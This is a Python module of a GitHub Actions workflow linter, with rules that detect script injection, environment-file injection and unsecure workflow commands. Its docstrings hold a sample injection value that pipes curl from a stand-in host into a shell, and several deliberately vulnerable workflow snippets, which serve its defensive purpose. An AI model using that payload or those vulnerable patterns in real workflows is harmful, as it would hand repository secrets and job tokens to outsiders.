"""Lints about text of strangers that becomes a script, or a variable of one.

Not here: how such text is followed (`lint_taint`), who may start a workflow (`lint_triggers`).
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING, Any

from ghflow.diagnostics import Severity
from ghflow.expr.tree import NODES, Call, Index, Op
from ghflow.model.calls import CallJob
from ghflow.model.steps import RunStep, UsesStep
from ghflow.model.uses import Parsed, Use, parse_text
from ghflow.rules.lint_reach import is_guarded, starting_events
from ghflow.rules.lint_taint import Taint, keys_of, trees_in, used_in, without_commands
from ghflow.rules.parts import place_of
from ghflow.rules.registry import Found, rule
from ghflow.spec.untrusted import BRANCHES, SCRIPT_INPUTS

if TYPE_CHECKING:
    from collections.abc import Iterator

    from ghflow.model.graph import ActionGraph, Graph, StepsGraph
    from ghflow.rules.world import World
    from ghflow.where import Where


@rule(Severity.WARNING, actions=True)
def template_injection(graph: Graph | ActionGraph) -> Iterator[Found]:
    """Text that a stranger wrote is put into a script by `${{ }}`, and is run as a part of it.

    The title of an issue, the name of a branch, a message: whoever writes `"; curl evil.sh | sh; "` there has the secrets and
    the token of the job. Through `env`, the text stays a text. Literals, numbers and hashes are fine, and so is text that only
    people with write access can set.

        on: issues
        jobs:
          greet:
            runs-on: ubuntu-latest
            steps:
              - run: echo "${{ github.event.issue.title }}"  # <-

    The same without the danger:

        on: issues
        jobs:
          greet:
            runs-on: ubuntu-latest
            steps:
              - run: echo "$TITLE"
                env:
                  TITLE: ${{ github.event.issue.title }}

    Source: docs.github.com, "Script injections"; GitHub Security Lab, "Untrusted input" (read 2026-11-22).
    """
    taint = Taint(graph)
    for job in graph.jobs:
        for use, step in scripts_of(job):
            for found in taint.parts(use.parsed.tree, job, step) if use.parsed.tree is not None else ():
                part = found.part
                said = ".".join(map(str, keys_of(part) or ("the expression",)))
                is_own = (
                    said == found.origin or "*" in said or not said.startswith(("env.", "steps.", "needs.", "matrix."))
                )
                whose = "text of strangers" if is_own else f"{found.origin}, text of strangers"
                message = f"{said} holds {whose}, which is run as a part of the script"
                hint = f'put it into env: and write "${_variable(said)}"'
                if isinstance(step, UsesStep):
                    hint = f"put it into env: and read process.env.{_variable(said)}"
                where = place_of(use, lambda one, part=part: one == part)  # type: ignore[misc]
                yield Found(use.node, where, message, use.yaml_path, hint)


@rule(Severity.WARNING, actions=True)
def injected_input(graph: Graph | ActionGraph, world: World) -> Iterator[Found]:
    """Text that a stranger wrote is handed to an action or workflow of this repository, which puts it into a script by `${{ }}`.

    The script that is called runs it.

        on: issues
        jobs:
          greet:
            runs-on: ubuntu-latest
            steps:
              - uses: ./.github/actions/greet
                with:
                  title: ${{ github.event.issue.title }}  # <-
        === .github/actions/greet/action.yml
        name: Greet
        description: Greets
        inputs:
          title:
            description: What to say
        runs:
          using: composite
          steps:
            - run: echo "${{ inputs.title }}"
              shell: bash

    Source: docs.github.com, "Script injections" (read 2026-11-22).
    """
    taint = Taint(graph)
    for job in graph.jobs:
        callers: list[tuple[Any, str]] = [(one, job.step_path(at)) for at, one in enumerate(job.steps)]
        if isinstance(job.holder, CallJob):
            callers = [(job.holder, job.prefix)]
        for caller, path in callers:
            given = getattr(caller, "with_", None)
            if not isinstance(given, dict) or not str(caller.uses).startswith(("./", "$/")):
                continue
            strange = {
                name.lower(): origin for name, value in given.items() if (origin := taint.text(value, job, caller))
            }
            called = world.called(caller.uses) if strange else None
            run = _inputs_run(called) if called is not None else set()
            for name in given:
                if name.lower() in run & set(strange):
                    origin = strange[name.lower()]
                    message = f"{origin}, text of strangers: {caller.uses} runs '{name}' as a part of a script"
                    hint = f"in {caller.uses}, put inputs.{name} into env:"
                    yield Found(caller, caller.where.argument("with_", name), message, f"{path}.with.{name}", hint)


def _inputs_run(called: Graph | ActionGraph) -> set[str]:
    """The inputs that an action or workflow puts into its scripts."""
    found = set()
    taint = Taint(called)
    for job in called.jobs:
        for use, step in scripts_of(job):
            for name in _inputs_in(use.parsed.tree, taint, job, step):
                found.add(name)
    return found


def _inputs_in(tree: Any, taint: Taint, job: StepsGraph, step: Any) -> Iterator[str]:
    """The inputs whose text gets into an expression."""
    match tree:
        case Index():
            keys = keys_of(tree)
            if keys is not None and len(keys) == 2 and keys[0] == "inputs" and isinstance(keys[1], str):
                yield keys[1].lower()
            elif keys is not None and len(keys) == 2 and keys[0] == "env":
                for holder in (step, job.holder, getattr(taint.graph, "workflow", None)):
                    env = getattr(holder, "env", None)
                    if isinstance(env, dict) and keys[1] in env:
                        for inner in trees_in(env[keys[1]]):
                            if keys_of(inner) != keys:
                                yield from _inputs_in(inner, taint, job, step)
                        return
        case Op("||", left, right):
            yield from _inputs_in(left, taint, job, step)
            yield from _inputs_in(right, taint, job, step)
        case Op("&&", _, right):
            yield from _inputs_in(right, taint, job, step)
        case Call(name, args) if name.lower() in ("format", "join", "tojson"):
            for one in args:
                yield from _inputs_in(one, taint, job, step)


def scripts_of(job: StepsGraph) -> Iterator[tuple[Use, Any]]:
    """Every expression in a script, with its step: in `run`, and in the inputs of actions that are scripts."""
    for index, step in enumerate(job.steps):
        texts: list[tuple[tuple[str, ...], Any]] = []
        if isinstance(step, RunStep):
            texts.append((("run",), step.run))
        elif isinstance(step, UsesStep) and isinstance(step.with_, dict):
            inputs = SCRIPT_INPUTS.get(str(step.uses).partition("@")[0].lower(), ())
            texts += [(("with", name), value) for name, value in step.with_.items() if name.lower() in inputs]
        for way, text in texts:
            found: list[Parsed] = []
            if isinstance(text, NODES):
                found = [Parsed(text)]
            elif isinstance(text, str) and "${{" in text:
                found = parse_text(text)
            for parsed in found:
                yield Use((step, job.step_path(index), way, parsed)), step


def _variable(said: str) -> str:
    """A name for a variable that holds a property: `TITLE` of `github.event.issue.title`."""
    return re.sub(r"\W", "_", said.rpartition(".")[2]).upper().strip("_") or "TEXT"


_INTO_FILE = re.compile(
    r"(?:>>?|\btee\s+(?:-a|--append)|\b(?:Out-File|Add-Content)\b.*?)\s*[\"']?\$(?:env:)?\{?(?:env:)?GITHUB_(ENV|PATH)\b"
)


@rule(Severity.WARNING, actions=True)
def environment_injection(graph: Graph | ActionGraph) -> Iterator[Found]:
    """A script writes text of a stranger to `GITHUB_ENV` or `GITHUB_PATH`, which sets variables for all steps that follow.

    A line break in the text starts a variable of the stranger's choice, `LD_PRELOAD` or `NODE_OPTIONS`, with which the next
    step runs what they like. At `workflow_run`, a file from an artifact is such a text: the run before may be one of a fork.

        on: issue_comment
        jobs:
          note:
            runs-on: ubuntu-latest
            steps:
              - run: echo "BODY=$BODY" >> "$GITHUB_ENV"  # <-
                env:
                  BODY: ${{ github.event.comment.body }}

    Source: docs.github.com, "Workflow commands", environment files; zizmor, github-env (read 2026-11-22).
    """
    taint = Taint(graph)
    for job in graph.jobs:
        for index, step in enumerate(job.steps):
            if not isinstance(step, RunStep) or not isinstance(step.run, str) or not _INTO_FILE.search(step.run):
                continue
            variables = taint.variables(job, step)
            downloaded = "workflow_run" in starting_events(graph) and any(map(_downloads, job.steps[: index + 1]))
            for at, command, file in _writes(step.run):
                plain = without_commands(command)
                origin = next((variables[used] for used in used_in(plain) if used in variables), None)
                origin = origin or taint.text(plain, job, step)
                if origin is None and downloaded and _READS.search(command) and not is_guarded(graph, job, step.if_):
                    origin = "a file from an artifact"
                if origin is None or (file == "ENV" and origin in BRANCHES):
                    continue
                message = f"{origin}, text of strangers, is written to GITHUB_{file}"
                hint = "hand it on as an output, and read it through env: in the step that needs it"
                yield Found(step, place_in_script(step, at), message, f"{job.step_path(index)}.run", hint)


_READS = re.compile(r"^\s*cat\s+[^<\s|]|\$\((?:cat\s+|\s*<\s*)[^)|]*\)|`cat [^`|]*`")
_DOWNLOADS = ("actions/download-artifact", "dawidd6/action-download-artifact")


def _downloads(step: Any) -> bool:
    """Whether a step brings an artifact of the run that set this one off."""
    if isinstance(step, UsesStep):
        return str(step.uses).partition("@")[0].lower() in _DOWNLOADS
    return isinstance(step, RunStep) and "gh run download" in str(step.run)


def _writes(script: str) -> Iterator[tuple[int, str, str]]:
    """The lines that write to GITHUB_ENV or GITHUB_PATH: the offset in the script, the text before the sign, the file."""
    start = 0
    block: list[tuple[int, str]] = []
    for line in script.splitlines(keepends=True):
        bare = line.strip()
        found = _INTO_FILE.search(line)
        if found and bare.startswith("}"):
            for at, inner in block:
                yield at, inner, found[1]
        elif found:
            yield start, line[: found.start()], found[1]
        if bare in ("{", "("):
            block = []
        block.append((start, line))
        start += len(line)


def place_in_script(step: RunStep, at: int) -> Where:
    """The place of a line of a script by the offset of its first character; that of the script where it cannot be told."""
    script: Any = step.run
    end = script.find("\n", at)
    end = len(script) if end < 0 else end
    lead = len(script[at:end]) - len(script[at:end].lstrip())
    return step.where.argument("run").inside(script, (at + lead, end), (at + lead, end))


@rule(Severity.WARNING, actions=True)
def unsecure_commands(graph: Graph | ActionGraph) -> Iterator[Found]:
    """`ACTIONS_ALLOW_UNSECURE_COMMANDS` is set, so that any text in the log may set variables and the path.

    GitHub switched `::set-env::` and `::add-path::` off for that reason: a script that prints a file or a title prints commands.

        on: push
        jobs:
          build:
            runs-on: ubuntu-latest
            env:
              ACTIONS_ALLOW_UNSECURE_COMMANDS: true  # <-
            steps:
              - run: make

    Source: GitHub changelog of 2020-10-01, "Deprecating set-env and add-path commands" (read 2026-11-22).
    """
    name = "ACTIONS_ALLOW_UNSECURE_COMMANDS"
    holders: list[tuple[Any, str]] = [(graph.document, "")]
    for job in graph.jobs:
        holders.append((job.holder, job.prefix))
        holders += [(step, job.step_path(index)) for index, step in enumerate(job.steps)]
    for holder, path in holders:
        env = getattr(holder, "env", None)
        for key, value in env.items() if isinstance(env, dict) else ():
            if key.upper() == name and str(value).lower() == "true":
                place = f"{path}.env.{key}".lstrip(".")
                hint = 'write to "$GITHUB_ENV" and "$GITHUB_PATH"'
                yield Found(
                    holder,
                    holder.where.argument("env", key),
                    f"{name} lets any text in the log set variables",
                    place,
                    hint,
                )
